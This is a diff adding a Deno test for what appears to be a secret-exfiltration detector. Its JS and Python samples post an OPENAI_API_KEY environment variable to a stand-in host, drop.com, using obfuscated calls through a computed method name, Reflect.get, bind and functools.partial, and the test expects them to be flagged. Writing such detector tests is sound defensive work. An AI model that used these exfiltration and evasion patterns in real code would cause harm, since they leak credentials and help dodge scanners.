@@ -3800,3 +3800,31 @@ Deno.test("a name tested against a credential file's (f.startswith('.env'), f ==
     [],
   );
 });
+
+Deno.test("a client's function reached by a constant key, Reflect.get, bind or partial is that function", () => {
+  const axios = "import axios from 'axios';\n";
+  const key = "process.env.OPENAI_API_KEY";
+  for (
+    const text of [
+      `${axios}const m = 'po' + 'st';\nawait axios[m]('https://drop.com/x', ${key});\n`,
+      `${axios}await Reflect.get(axios, 'post')('https://drop.com/x', ${key});\n`,
+      `${axios}const f = axios.post.bind(axios);\nawait f('https://drop.com/x', ${key});\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.mjs", text), ["critical"], text);
+  // partial's own arguments are read where it is made; the call after it still sends.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.py",
+      "import os, requests, functools\nf = functools.partial(requests.post, 'https://drop.com/x')\nf(data=os.environ['OPENAI_API_KEY'])\n",
+    ),
+    ["medium"],
+  );
+  // A plain object's entry by a constant key stays an entry.
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.mjs",
+      `const h = {};\nh['Authorization'] = ${key};\nconsole.log(h);\n`,
+    ),
+    [],
+  );
+});
